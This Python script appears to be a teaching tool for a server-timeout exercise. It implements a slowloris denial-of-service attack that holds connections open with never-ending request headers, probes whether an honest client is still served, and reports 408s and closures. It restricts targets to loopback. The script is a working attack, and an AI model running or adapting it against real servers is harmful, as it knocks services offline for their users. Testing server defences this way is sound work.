#!/usr/bin/python3
"""slowloris.py -- holds connections open by sending a request head slowly, and probes the server.

    docs/exercises/tools/slowloris.py --port 8080 --connections 8 --interval 1 --duration 6

For the slowloris exercise (docs/exercises/08-slowloris.md), when slowhttptest is not installed
(`apt-get install slowhttptest` gives the real tool). Opens --connections connections, and on each
sends `GET /plaintext HTTP/1.1` and then one more header line every --interval seconds, never the
blank line that ends the head: each connection looks like a very slow client, forever. After
--probe-after seconds it opens one more connection that sends a whole `GET /plaintext` at once
(the probe: an honest client) and reports how long its answer took, or that none came.

At the end (--duration) it reports how many slow connections the server closed, when, and how
many of them got a 408 first; then it closes everything. Loopback only; standard library only.
"""
import argparse
import asyncio
import sys
import time


async def dribble(host, port, interval, until, report):
    """One slow client: a head that never ends. Records when (and how) the server ended it."""
    try:
        reader, writer = await asyncio.open_connection(host, port)
    except OSError as e:
        report["refused"] += 1
        report.setdefault("errors", set()).add(type(e).__name__)
        return
    start = time.monotonic()
    writer.write(b"GET /plaintext HTTP/1.1\r\n")
    n = 0
    try:
        while time.monotonic() < until:
            try:
                data = await asyncio.wait_for(reader.read(4096), timeout=interval)
            except asyncio.TimeoutError:
                n += 1
                writer.write(f"X-Slow-{n}: {'a' * 8}\r\n".encode())  # one more line, never the end
                await writer.drain()
                continue
            # The server spoke or closed: a 408, or a silent close.
            if data.startswith(b"HTTP/1.1 408") or data.startswith(b"HTTP/1.0 408"):
                report["got_408"] += 1
            report["closed_after"].append(time.monotonic() - start)
            return
    except (ConnectionError, OSError):
        report["closed_after"].append(time.monotonic() - start)
    finally:
        writer.close()


async def probe(host, port, limit):
    """An honest client: a whole request at once. Seconds until its answer, or None."""
    start = time.monotonic()
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), limit)
    except (OSError, asyncio.TimeoutError):
        return None, "could not connect"
    try:
        writer.write(b"GET /plaintext HTTP/1.1\r\nHost: x\r\n\r\n")
        head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), limit - (time.monotonic() - start))
        return time.monotonic() - start, head.split(b"\r\n", 1)[0].decode()
    except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError):
        return None, "no answer"
    finally:
        writer.close()


async def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--connections", type=int, default=8, help="slow clients")
    ap.add_argument("--interval", type=float, default=1.0, help="seconds between two header lines of a slow client")
    ap.add_argument("--duration", type=float, default=6.0, help="seconds the slow clients keep going")
    ap.add_argument("--probe-after", type=float, default=0.5, help="seconds before the honest request is sent")
    args = ap.parse_args()
    if not args.host.startswith("127."):
        sys.exit("slowloris: loopback targets only (127.0.0.0/8)")

    start = time.monotonic()
    until = start + args.duration
    report = {"refused": 0, "got_408": 0, "closed_after": []}
    slow = [asyncio.create_task(dribble(args.host, args.port, args.interval, until, report))
            for _ in range(args.connections)]
    await asyncio.sleep(args.probe_after)
    print(f"slowloris: {args.connections} slow connections, one header line every {args.interval:g} s; "
          f"probing with GET /plaintext after {args.probe_after:g} s", flush=True)
    waited, status = await probe(args.host, args.port, max(0.1, until - time.monotonic()))
    if waited is None:
        print(f"slowloris: probe: {status} within {args.duration - args.probe_after:.1f} s "
              f"(the slow clients hold the server)")
    else:
        print(f"slowloris: probe: answered in {waited:.3f} s ({status})")
    await asyncio.gather(*slow)
    closed = sorted(report["closed_after"])
    if closed:
        print(f"slowloris: the server closed {len(closed)} of {args.connections} slow connections "
              f"({report['got_408']} with a 408 first), the first after {closed[0]:.1f} s, "
              f"the last after {closed[-1]:.1f} s")
    else:
        print(f"slowloris: the server closed none of the {args.connections} slow connections "
              f"in {args.duration:g} s")
    if report["refused"]:
        print(f"slowloris: {report['refused']} slow connections could not connect")
    return 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
